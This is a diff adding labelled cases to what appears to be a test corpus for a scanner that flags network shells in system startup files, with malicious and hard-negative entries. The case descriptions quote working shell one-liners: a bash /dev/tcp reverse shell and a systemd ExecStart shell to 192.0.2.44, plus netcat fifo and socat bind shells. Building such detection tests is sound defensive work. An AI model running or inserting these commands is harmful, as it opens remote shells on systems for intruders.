@@ -895,6 +895,17 @@ add("access/netcat-shell/etc/init.d/rcS", "access-network-shell", "any", "text",
     "A fifo pipeline: cat /tmp/f | /bin/sh -i | nc -l -p 4444 > /tmp/f (line 4).")
 add("access/netcat-healthcheck/etc/init.d/S99health", "access-benign", "any", "text", "clean",
     [], REMOTE_RULES + [R["rootlogin"]], [], "Hard negative: nc as a client (-w 2 127.0.0.1 8080) with no shell.")
+add("access/devtcp-shell/etc/rc.local", "access-network-shell", "any", "text", "malicious",
+    [R["netshell"]], [R["emptyremote"]], [],
+    "A reverse shell on bash's /dev/tcp, retried every five minutes: bash -i >& /dev/tcp/192.0.2.44/8443 0>&1 (line 3).")
+add("access/devtcp-shell/etc/systemd/system/netcheck.service", "access-network-shell", "any", "text", "malicious",
+    [R["netshell"]], [R["emptyremote"]], [],
+    "ExecStart=/bin/bash -c 'exec 5<>/dev/tcp/192.0.2.44/443; sh <&5 >&5 2>&5': a shell on a descriptor bash "
+    "connected out (the command read inside -c).")
+add("access/devtcp-healthcheck/etc/init.d/S40app", "access-benign", "any", "text", "clean",
+    [], REMOTE_RULES + [R["rootlogin"]], [],
+    "Hard negative: /dev/tcp used only to wait for ports to answer (echo > /dev/tcp/127.0.0.1/$DB_PORT in a "
+    "loop, timeout 1 bash -c '</dev/tcp/127.0.0.1/8080'), no shell on the socket.")
 add("access/socat-shell/etc/systemd/system/diag.service", "access-network-shell", "any", "text",
     "malicious", [R["netshell"]], [], [],
     "ExecStart=socat TCP-LISTEN:9999,reuseaddr,fork EXEC:/bin/bash,pty,stderr.")
